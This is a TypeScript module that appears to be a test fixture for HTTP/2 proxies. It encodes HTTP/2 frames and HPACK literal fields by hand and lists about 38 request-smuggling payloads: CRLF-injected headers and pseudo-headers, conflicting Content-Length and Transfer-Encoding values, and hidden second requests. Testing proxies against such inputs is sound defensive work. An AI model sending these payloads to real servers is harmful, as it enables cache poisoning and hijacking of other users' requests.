/**
 * HTTP/2 requests of an attacker (RFC 9113): frames and literal fields (RFC 7541 section 6.2.2) written byte
 * by byte, since libraries would normalize them.
 */

type Fields = readonly (readonly [name: string, value: string])[];

export interface Http2Attack {
  readonly what: string;
  readonly fields: Fields;
  readonly content: string;
}

const HIDDEN = "GET /v1/status/418 HTTP/1.1\r\nHost: a\r\n";
const OPEN = `${HIDDEN}X-Rest: `;
const START: Fields = [
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/v1/ip"],
  [":authority", "a"],
  ["content-type", "application/json"],
];
const where = (name: string, value: string): Fields =>
  START.map(([each, before]) => [each, each === name ? value : before]);
const line = `x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${OPEN}`;

/** Harmless request; its response contains the address. */
export const HONEST: Http2Attack = { what: "honest", fields: START, content: '{"ips":["10.0.0.1"]}' };

/** Requests with fields that a proxy must not forward to HTTP/1.1 unchanged. */
export const HTTP2_ATTACKS: readonly Http2Attack[] = [
  ...[
    ["content-length", "0"],
    ["content-length", "5"],
    ["content-length", "9999"],
    ["content-length", "+5"],
    ["transfer-encoding", "chunked"],
    ["Transfer-Encoding", "chunked"],
    ["transfer-encoding ", "chunked"],
    ["transfer-encoding: chunked\r\nx", "y"],
    ["x\r\ntransfer-encoding", "chunked"],
    ["x", "y\r\ntransfer-encoding: chunked"],
    ["x", "y\ntransfer-encoding: chunked"],
    ["x", `y${line}`],
    ["x", "y\0z"],
    ["x y", "z"],
    ["", "z"],
    ["connection", "content-length"],
    ["connection", "keep-alive, transfer-encoding"],
    ["upgrade", "h2c"],
    ["te", "chunked"],
    ["expect", "100-continue"],
    ["host", "b\r\nTransfer-Encoding: chunked"],
    ["host", "b"],
    ["cookie", "a\r\nTransfer-Encoding: chunked"],
    [":path", "/v1/status/418"],
    [":unknown", "x"],
  ].map(([name = "", value = ""]) => ({
    what: JSON.stringify([name, value.slice(0, 40)]),
    fields: [...START, [name, value] as const],
    content: `0\r\n\r\n${OPEN}`,
  })),
  ...[
    where(":method", `GET /v1/status/418 HTTP/1.1\r\nHost: a\r\n\r\nPOST`),
    where(":method", "POST /v1/status/418"),
    where(":method", "CONNECT"),
    where(":path", `/v1/ip HTTP/1.1\r\nHost: a\r\n\r\n${OPEN}`),
    where(":path", "/v1/ip HTTP/1.1"),
    where(":path", "/v1/ip\tHTTP/1.1"),
    where(":path", "v1/ip"),
    where(":path", "*"),
    where(":path", ""),
    where(":scheme", "http://a/v1/status/418 HTTP/1.1\r\nX: "),
    where(":authority", "a\r\nTransfer-Encoding: chunked"),
    where(":authority", "a/v1/status/418"),
    where(":authority", ""),
  ].map((fields) => ({ what: JSON.stringify(fields).slice(0, 120), fields, content: OPEN })),
];

const DATA = 0;
const HEADERS = 1;
const SETTINGS = 4;
const END_STREAM = 1;
const END_HEADERS = 4;

function frame(type: number, flags: number, stream: number, content: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(content.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, content]);
}

/** HPACK string: length with a prefix of 7 bits (RFC 7541 section 5.1), then the plain bytes. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value, "latin1");
  const length: number[] = [];
  if (bytes.length < 127) length.push(bytes.length);
  else {
    length.push(127);
    let rest = bytes.length - 127;
    for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128);
    length.push(rest);
  }
  return Buffer.concat([Buffer.from(length), bytes]);
}

/** All bytes of a client that sends one request on a new connection. */
export function http2Bytes({ fields, content }: Http2Attack): Uint8Array {
  const block = Buffer.concat(fields.flatMap(([name, value]) => [Buffer.of(0), text(name), text(value)]));
  return Buffer.concat([
    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    frame(SETTINGS, 0, 0, Buffer.alloc(0)),
    frame(HEADERS, END_HEADERS, 1, block),
    frame(DATA, END_STREAM, 1, Buffer.from(content, "latin1")),
  ]);
}
